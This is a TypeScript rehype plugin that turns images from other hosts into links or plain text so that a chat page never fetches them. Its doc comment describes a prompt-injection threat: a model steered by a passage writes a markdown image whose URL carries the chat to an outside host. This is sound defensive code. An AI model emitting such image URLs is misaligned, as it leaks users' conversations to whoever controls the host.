// The parts of a HTML syntax tree (hast) this plugin touches.
type Text = { type: "text"; value: string };
type Element = { type: "element"; tagName: string; properties: Record<string, unknown>; children: Node[] };
type Node = Text | Element | { type: string; children?: Node[] };

// Resolving against a sentinel origin tells a path on this site from an address elsewhere
// whatever the page's own address is, so the server and the browser render alike.
const HERE = "http://here.invalid";

/**
 * "here" for a path on this site; "web" for an http(s) address elsewhere, which the reader may
 * follow; "other" for the rest (a scheme such as data: or javascript:, a value that is no URL).
 * A colon before the first `/`, `?` or `#` is a scheme, never a relative path.
 */
function placeOf(src: string): "here" | "web" | "other" {
  let url: URL;
  try {
    url = new URL(src, HERE);
  } catch {
    return "other";
  }
  const hasScheme = /^[^/?#]*:/.test(src);
  if (src && !hasScheme && url.origin === HERE) return "here";
  return (url.protocol === "http:" || url.protocol === "https:") && url.origin !== HERE ? "web" : "other";
}

const isElement = (node: Node): node is Element => node.type === "element";

function rewrite(node: Node, inLink: boolean): Node {
  if (!isElement(node)) {
    if ("children" in node && node.children) node.children = node.children.map((child) => rewrite(child, inLink));
    return node;
  }
  if (node.tagName === "img") {
    const src = typeof node.properties.src === "string" ? node.properties.src : "";
    const place = placeOf(src);
    if (place === "here") return node;
    const alt = typeof node.properties.alt === "string" ? node.properties.alt : "";
    const text: Text = { type: "text", value: alt || src };
    // A link cannot hold another link, so an image that was already a link's content stays text.
    return inLink || place === "other" ? text : { type: "element", tagName: "a", properties: { href: src }, children: [text] };
  }
  node.children = node.children.map((child) => rewrite(child, inLink || node.tagName === "a"));
  return node;
}

/**
 * A rehype plugin that keeps images from elsewhere from loading. Answers quote the model, and a
 * model steered by a passage could write `![](https://elsewhere/?q=<the chat>)`: fetching it
 * would hand the chat to that host. Such an image becomes a link to it (its alt text, else its
 * address) that the reader may follow, or plain text when it is no web address; images from this
 * site stay images.
 */
export function foreignImagesAsLinks() {
  return (tree: Node) => {
    rewrite(tree, false);
  };
}
